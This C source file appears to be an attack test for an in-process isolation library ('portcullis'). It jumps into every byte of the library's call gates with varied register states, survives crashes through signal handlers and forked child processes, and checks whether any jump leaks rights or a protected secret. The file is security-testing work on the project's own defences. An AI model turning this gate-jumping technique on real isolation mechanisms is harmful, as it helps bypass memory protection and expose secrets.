/*
 * Jumps to each byte of each gate, which includes each of its instructions, with each of a set of register
 * states. A try that the kernel answers by a signal is survived; one that ends the process is followed by
 * another process, which goes on with the next. What counts is what is left when control is back: rights, a
 * view, the secret in a register.
 */
#include <setjmp.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <ucontext.h>
#include <unistd.h>

#include "attack.h"
#include "clerk.h"
#include "code.h"
#include "portcullis/portcullis.h"
#include "vault.h"

#define REGISTERS   16
#define DUMPS       64 /* searched at once */
#define PAGES_MAX   16
#define THUNK_BYTES 16 /* tried of a page of thunks: they are all alike, and some entry points never end */
#define STACK_WORDS 128

static bool keys; /* is the backend pku? */

/* What processes that try hand to each other. */
static struct progress {
	unsigned next; /* number of the try that comes next */
	unsigned dump_count;
	uint64_t dumps[DUMPS][REGISTERS]; /* registers after tries */
} * progress;

/* ---- one try ----------------------------------------------------------------------------------------------
 */

/* What a try starts with, and what was in the registers when it came back. */
struct start {
	uint64_t rax, rcx;
	uint64_t other; /* in all other registers, XMM15 included, but RDI, which is no address */
	uint64_t rsp;
	const void *target;
} start;

uint64_t landed_with[REGISTERS];
extern const char landing[];
void launch(void);
_Noreturn void landed(void);

static uint64_t return_stack[STACK_WORDS], handler_stack[4096];
void *landed_stack = handler_stack + sizeof(handler_stack) / sizeof(handler_stack[0]) - 8;

#define KEEP(name, offset) "mov %" #name ", landed_with + " #offset "(%rip)\n"
#define LOAD(name)         "mov %r15, %" #name "\n"

/* A gate returns to `landing` by the stack that it was given. */
__asm__(".pushsection .text\n"
        "launch:\n"
        "mov start + 16(%rip), %r15\n" LOAD(rbx) LOAD(rbp) LOAD(rsi) LOAD(rdx) LOAD(r8) LOAD(r9) LOAD(r10)
                LOAD(r11) LOAD(r12) LOAD(r13) LOAD(
                        r14) "movq %r15, %xmm15\n"
                             "mov $-1, %rdi\n"
                             "mov start(%rip), %rax\n"
                             "mov start + 8(%rip), %rcx\n"
                             "mov start + 24(%rip), %rsp\n"
                             "jmp *start + 32(%rip)\n"
                             "landing:\n" KEEP(rax, 0) KEEP(rcx, 8) KEEP(rdx, 16) KEEP(rbx, 24) KEEP(rbp, 32)
                                     KEEP(rsi, 40) KEEP(rdi, 48) KEEP(r8, 56) KEEP(r9, 64) KEEP(r10, 72)
                                             KEEP(r11, 80) KEEP(r12, 88) KEEP(r13, 96) KEEP(r14, 104)
                                                     KEEP(r15, 112) "movq %xmm15, landed_with + 120(%rip)\n"
                                                                    "mov landed_stack(%rip), %rsp\n"
                                                                    "cld\n"
                                                                    "call landed\n"
                                                                    ".popsection\n");

static sigjmp_buf back;
static volatile bool trying;

enum end { ENDED_BY_SIGNAL = 1, ENDED_AT_LANDING };

void landed(void)
{
	siglongjmp(back, ENDED_AT_LANDING);
}

/* A try that lasts longer than from one tick to the next is an endless loop. */
static bool is_endless(void)
{
	static unsigned last;
	bool same = last == progress->next;

	last = progress->next;
	return same;
}

static void handle(int signal, siginfo_t *info, void *context)
{
	const greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;

	(void)info;
	if (!trying || (signal == SIGALRM && !is_endless()))
		return;
	for (unsigned i = 0; i < REGISTERS; i++)
		landed_with[i] = (uint64_t)registers[i];
	siglongjmp(back, ENDED_BY_SIGNAL);
}

static void handle_signals(void)
{
	static const int signals[] = {SIGSEGV, SIGILL, SIGTRAP, SIGBUS, SIGFPE, SIGALRM};
	struct sigaction action = {.sa_sigaction = handle, .sa_flags = SA_SIGINFO | SA_ONSTACK | SA_NODEFER};
	stack_t stack = {.ss_sp = handler_stack, .ss_size = sizeof(handler_stack)};

	sigaltstack(&stack, NULL);
	for (unsigned i = 0; i < sizeof(signals) / sizeof(signals[0]); i++)
		sigaction(signals[i], &action, NULL);
}

/* Ends the program with the secret if the thread has more rights than an application. */
static void look_around(void)
{
	trying = true;
	if (!sigsetjmp(back, 0))
		attack_read_secret();
	trying = false;
}

static enum end go(void)
{
	enum end end;

	for (unsigned i = 0; i < STACK_WORDS; i++)
		return_stack[i] = (uint64_t)landing;
	trying = true;
	end = (enum end)sigsetjmp(back, 0);
	if (!end)
		launch();
	trying = false;
	return end;
}

/* ---- register states --------------------------------------------------------------------------------------
 */

#define PLACES 3 /* of the stack, and what all other registers hold */

#define RIGHTS_OF_APPLICATION 0x55555554U
#define RIGHTS_OF(key)        (RIGHTS_OF_APPLICATION & ~(3U << 2 * (key)))

#define COUNT(array) (sizeof(array) / sizeof(array[0]))

/* Of RAX and RCX, those that mean something to the instructions of the backend's gates. */
struct values {
	uint64_t rax[4], rcx[3];
	unsigned rax_count, rcx_count;
};

/* Rights of the first two shared domains, of the application, of everybody; what WRPKRU needs. */
static const struct values with_keys = {{RIGHTS_OF(14), RIGHTS_OF(13), RIGHTS_OF_APPLICATION, 0}, {0}, 4, 1};

/* The function, or an index; the views of the application and of the first two libraries. */
static const struct values with_views = {{0, 5}, {0, 1, 2}, 2, 3};

/* An index; a system call that enters; one that leaves. */
static const struct values with_system_calls = {{0, 0x405f0000, 0x7fffffff}, {0}, 3, 1};

static const struct values *values = &with_system_calls;

static unsigned states(void)
{
	return values->rax_count * values->rcx_count * PLACES;
}

static void choose_values(void)
{
	keys = !strcmp(portcullis_backend(), "pku");
	if (keys)
		values = &with_keys;
	else if (!strcmp(portcullis_backend(), "vmfunc"))
		values = &with_views;
}

static void set_state(unsigned state)
{
	const uint64_t own_stack = (uint64_t)&return_stack[STACK_WORDS / 2];
	const uint64_t secret = (uint64_t)attack_secret_address();
	const struct {
		uint64_t other, rsp;
	} places[PLACES] = {{0, own_stack}, {(uint64_t)landing, own_stack}, {secret, secret + 64}};

	start.rax = values->rax[state % values->rax_count];
	state /= values->rax_count;
	start.rcx = values->rcx[state % values->rcx_count];
	state /= values->rcx_count;
	start.other = places[state].other;
	start.rsp = places[state].rsp;
}

/* ---- gates ------------------------------------------------------------------------------------------------
 */

static struct {
	const uint8_t *start;
	unsigned size;
} pages[PAGES_MAX];
static unsigned page_count, byte_count;

static bool is_readable(const uint8_t *page)
{
	bool readable = false;

	trying = true;
	if (!sigsetjmp(back, 0)) {
		(void)*(const volatile uint8_t *)page;
		readable = true;
	}
	trying = false;
	return readable;
}

static void add_page(const uint8_t *page)
{
	unsigned size = PAGE;

	while (size && !page[size - 1])
		size--;
	if (!size)
		return;
	if (page_count == PAGES_MAX)
		attack_refused("more gates than there is room for");
	if (page[0] == 0xb8 && size > THUNK_BYTES) /* MOV index, EAX: thunks */
		size = THUNK_BYTES;
	pages[page_count].start = page;
	pages[page_count++].size = size;
	byte_count += size;
}

/* What the application sees of a domain's gate area. */
static void add_gates(unsigned long address)
{
	const uint8_t *area = (const uint8_t *)(address & -PORTCULLIS_DOMAIN_SIZE) + PORTCULLIS_GATE_OFFSET;

	for (size_t offset = 0; offset < PORTCULLIS_GATE_SIZE; offset += PAGE)
		if (is_readable(area + offset))
			add_page(area + offset);
}

static const uint8_t *byte_at(unsigned number)
{
	unsigned page = 0;

	for (; number >= pages[page].size; page++)
		number -= pages[page].size;
	return pages[page].start + number;
}

/* ---- all tries --------------------------------------------------------------------------------------------
 */

static void search_dumps(void)
{
	attack_search(progress->dumps, progress->dump_count * sizeof(progress->dumps[0]));
	progress->dump_count = 0;
}

static void try_next(void)
{
	unsigned number = progress->next++;
	enum end end;

	start.target = byte_at(number / states());
	set_state(number % states());
	end = go();
	memcpy(progress->dumps[progress->dump_count++], landed_with, sizeof(landed_with));
	if (keys ? code_rights() != RIGHTS_OF_APPLICATION : end == ENDED_AT_LANDING)
		look_around();
	if (progress->dump_count == DUMPS)
		search_dumps();
}

/* Until all is tried, or a try ends the process. */
static void try_in_child(void)
{
	struct itimerval tick = {{0, 20000}, {0, 20000}};
	int status, child = fork();

	if (child < 0)
		attack_refused("no child");
	if (!child) {
		setitimer(ITIMER_REAL, &tick, NULL);
		while (progress->next < byte_count * states())
			try_next();
		_exit(1);
	}
	if (waitpid(child, &status, 0) != child)
		attack_refused("no child");
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		_exit(0); /* it has printed the secret */
	search_dumps();
}

static void try_all(void)
{
	unsigned deaths = 0;

	choose_values();
	progress = mmap(NULL, sizeof(*progress), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (progress == MAP_FAILED)
		attack_refused("no memory");
	for (; progress->next < byte_count * states(); deaths++)
		try_in_child();
	look_around();
	printf("%u bytes, %u tries, %u processes\n", byte_count, progress->next, deaths);
	attack_refused("no jump gains anything");
}

static void gates(void)
{
	handle_signals();
	add_gates(vault_address());
	try_all();
}

static void nested_gates(void)
{
	if (portcullis_attach("clerk", PORTCULLIS_SHARED))
		attack_refused(portcullis_error());
	handle_signals();
	add_gates(clerk_memory());
	try_all();
}

static const struct attack attacks[] = {
        {"gates", gates},
        {"nested-gates", nested_gates},
        {0},
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, attacks);
}
